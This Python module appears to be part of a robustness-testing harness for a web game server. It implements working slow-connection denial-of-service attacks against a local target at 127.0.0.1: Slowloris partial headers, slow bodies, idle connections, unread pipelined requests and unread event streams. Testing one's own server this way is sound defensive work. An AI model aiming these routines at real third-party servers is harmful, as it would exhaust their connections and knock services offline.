"""Attacks by connections that do not read, send a byte at a time, or stay idle."""

import itertools
import re
import socket
from collections.abc import Callable
from contextlib import suppress

from .browser import Broken
from .target import AttackRun

_MOST_OPENED = 20_000  # connections in one attack, reopened ones included
_UNFINISHED_BODY = 1_000_000
_PATIENCE = 10.0  # seconds that a connection waits for an answer


def unread(run: AttackRun, connections: int, requests: int = 256) -> None:
    """Pipeline `requests` requests for a script on each connection, and read no response."""
    head = f"GET {_longest_script(run)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * requests
    _hold(run, connections, lambda number: head, lambda number: b"")


def _longest_script(run: AttackRun) -> str:
    """Return the URL of the home page's longest script."""
    with suppress(*Broken), run.browser() as browser:
        scripts: list[str] = re.findall(r'<script src="([^"]+)"', browser.get("/").text)
        return max(scripts, key=lambda script: len(browser.get(script).body))
    return "/static/app.js"


def pipelined(run: AttackRun, connections: int = 50, requests: int = 32) -> None:
    """Send `requests` requests for pages at once on each connection, read all responses, and again on a new one."""
    pages = "/", "/join", "/games/new", "/rules/da-500", "/rules/de-romme"
    heads = [f"GET {pages[number % len(pages)]} HTTP/1.1\r\nHost: 127.0.0.1\r\n" for number in range(requests)]
    sent = ("\r\n".join(heads) + "Connection: close\r\n\r\n").encode()

    def send() -> None:
        while not run.over:
            try:
                for status in _answers_to(run, sent):
                    run.count(status)
            except OSError as error:
                run.count(type(error).__name__)
                run.pause(0.05)

    run.at_once([send] * connections)


def _answers_to(run: AttackRun, sent: bytes) -> list[str]:
    """Return the statuses of all responses to `sent`, whose last request closes the connection."""
    here = run.target.source, 0
    with socket.create_connection(("127.0.0.1", run.target.port), _PATIENCE, source_address=here) as connection:
        connection.sendall(sent)
        received = b"".join(iter(lambda: connection.recv(65_536), b""))
    return [status.decode() for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", received)]


def slow_heads(run: AttackRun, connections: int = 500) -> None:
    """Send half a request head, then a byte at a time (Slowloris)."""
    begin = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    _hold(run, connections, lambda number: begin, lambda number: b"a")


def slow_bodies(run: AttackRun, connections: int = 500) -> None:
    """Announce a body, send half of it, then a byte at a time."""

    def begin(number: int) -> bytes:
        length = _UNFINISHED_BODY if number % 10 == 0 else 1_000
        head = "POST /api/v1/games HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        return f"{head}Content-Length: {length}\r\n\r\n".encode() + b" " * (length // 2)

    _hold(run, connections, begin, lambda number: b" ")


def idle(run: AttackRun, connections: int = 2_000) -> None:
    """Keep connections idle: a third of them empty, a third with half a head, a third with half a body."""
    begins = itertools.cycle(
        [
            b"",
            b"GET / HTTP/1.1\r\nHost: 127",
            b"POST /join HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\ncode=",
        ]
    )
    parts = list(itertools.islice(begins, connections))
    _hold(run, connections, lambda number: parts[number], lambda number: b"")


def streams(run: AttackRun, connections: int = 500) -> None:
    """Open streams of a game on all connections of one address, and reconnect when refused."""
    _hold(run, connections, _listening(run), lambda number: b"", reads=True)


def unread_streams(run: AttackRun, connections: int = 100) -> None:
    """Open streams without reading them, and request the board repeatedly on the same connections."""
    listening = _listening(run)
    board = listening(0).replace(b"/events", b"/board", 1)
    _hold(run, connections, lambda number: board * 50 + listening(number), lambda number: board)


def _listening(run: AttackRun) -> Callable[[int], bytes]:
    """Join the long game as a device; return a function that makes the request for its stream."""
    cookie = ""
    with suppress(*Broken, RuntimeError, LookupError), run.browser() as device:
        device.join(run.target.key)
        cookie = "; ".join(f"{name}={value}" for name, value in device.cookies.items())
    path = f"/games/{run.target.game_id}/events"
    return lambda number: f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie}\r\n\r\n".encode()


def _hold(
    run: AttackRun,
    connections: int,
    begin: Callable[[int], bytes],
    further: Callable[[int], bytes],
    *,
    reads: bool = False,
) -> None:
    """Keep `connections` connections open: each sends `begin`, then `further` repeatedly; closed ones are reopened."""
    opened = itertools.count()
    held: dict[int, socket.socket] = {}
    while not run.over and next(opened) < _MOST_OPENED:
        for number in range(connections):
            if run.over:
                break
            if number not in held and next(opened) < _MOST_OPENED:
                _open(run, held, number, begin(number))
            elif number in held:
                _continue(run, held, number, further(number), reads)
        run.count("held", len(held) - run.answers["held"])
        run.pause(0.2)
    for connection in held.values():
        connection.close()


def _open(run: AttackRun, held: dict[int, socket.socket], number: int, sent: bytes) -> None:
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(0.5)
    try:
        connection.bind((run.target.source, 0))
        connection.connect(("127.0.0.1", run.target.port))
        connection.setblocking(False)
        with suppress(BlockingIOError):
            connection.send(sent)
        held[number] = connection
    except OSError as error:
        connection.close()
        run.count(type(error).__name__)
        run.pause(0.01)


def _continue(run: AttackRun, held: dict[int, socket.socket], number: int, sent: bytes, reads: bool) -> None:
    connection = held[number]
    try:
        if sent:
            connection.send(sent)
        peeked = connection.recv(4096, 0 if reads else socket.MSG_PEEK)
        closed = not peeked
    except BlockingIOError:
        closed = False
    except OSError:
        closed = True
    if closed:
        connection.close()
        del held[number]
        run.count("closed")


def mixed(run: AttackRun) -> list[Callable[[], None]]:
    """Return smaller versions of all these attacks, to run at the same time."""
    return [
        lambda: unread(run, 20),
        lambda: pipelined(run, 10),
        lambda: slow_heads(run, 100),
        lambda: slow_bodies(run, 100),
        lambda: idle(run, 300),
        lambda: streams(run, 100),
        lambda: unread_streams(run, 20),
    ]
